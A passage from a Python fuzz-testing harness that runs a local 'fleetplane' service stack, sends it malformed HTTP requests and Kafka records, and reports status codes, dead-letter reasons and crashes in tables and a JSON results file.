            "name": "after-fuzz", "team": team}}, headers={"Authorization": f"Bearer {token}"})
        report.final_state = wait_state(http, url, token, good.json()["task_id"]) \
            if good.status_code == 202 else f"HTTP {good.status_code}"
        report.phases["checks"] = time.monotonic() - t0
    report.seconds = time.monotonic() - started
    return report


def print_report(report: Report) -> None:
    from rich.console import Console
    from rich.table import Table

    console = Console(width=150)
    t = Table(title=f"HTTP: {report.http_total} requests, {report.http_5xx} x 5xx")
    for col in ("endpoint [caller]", "status", "count"):
        t.add_column(col)
    for (endpoint, code), n in sorted(report.http.items()):
        t.add_row(endpoint, code, str(n))
    console.print(t)
    t = Table(title=f"Kafka: {sum(report.raw_sent.values())} hostile records")
    for col in ("topic", "kind", "sent"):
        t.add_column(col)
    for (topic, kind), n in sorted(report.raw_sent.items()):
        t.add_row(topic, kind, str(n))
    console.print(t)
    t = Table(title="fleet.dlq: reasons")
    for col in ("service", "reason", "count"):
        t.add_column(col)
    for (svc, why), n in sorted(report.dlq_reasons.items()):
        t.add_row(svc, why, str(n))
    console.print(t)
    t = Table(title="fleet.dlq: dead letters of the hostile records")
    for col in ("service", "source topic", "error class", "count"):
        t.add_column(col)
    for (svc, topic, cls), n in sorted(report.dlq.items()):
        t.add_row(svc, topic, cls, str(n))
    console.print(t)
    console.print(json.dumps(report.summary(), indent=1))
    for title, items in (("MISSING DEAD LETTERS", report.missing_dlq),
                         ("5xx", report.server_errors), ("CRASHED", report.crashed),
                         ("NOT VERBATIM", report.verbatim_mismatches),
                         ("4xx without a reason", report.bad_answers)):
        if items:
            console.print(f"[red]{title}[/red] ({len(items)}):")
            for item in items[:20]:
                console.print(f"  {item}")
    console.print("[green]zero crashes[/green]" if report.ok() else "[red]FAILED[/red]")


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--http", type=int, default=3000, help="hostile HTTP requests")
    ap.add_argument("--raw-per-kind", type=int, default=20,
                    help="records per (topic, kind) on the raw Kafka path")
    ap.add_argument("--seed", type=int, default=1)
    args = ap.parse_args()
    with tempfile.TemporaryDirectory(prefix="fleetplane-fuzz-") as tmp:
        stack = Stack(data_dir=Path(tmp))
        try:
            stack.start()
            report = run(stack, http_requests=args.http, raw_per_kind=args.raw_per_kind,
                         seed=args.seed)
        finally:
            stack.stop()
    print_report(report)
    out = Path(__file__).parent / "results" / f"fuzz-{time.strftime('%Y%m%dT%H%M%S')}.json"
    out.parent.mkdir(parents=True, exist_ok=True)
    out.write_text(json.dumps({"seed": args.seed, **report.summary(),
                               "dlq": [[*k, n] for k, n in sorted(report.dlq.items())]},
                              indent=1))
    print(f"written to {out}")
    raise SystemExit(0 if report.ok() else 1)


if __name__ == "__main__":
    main()
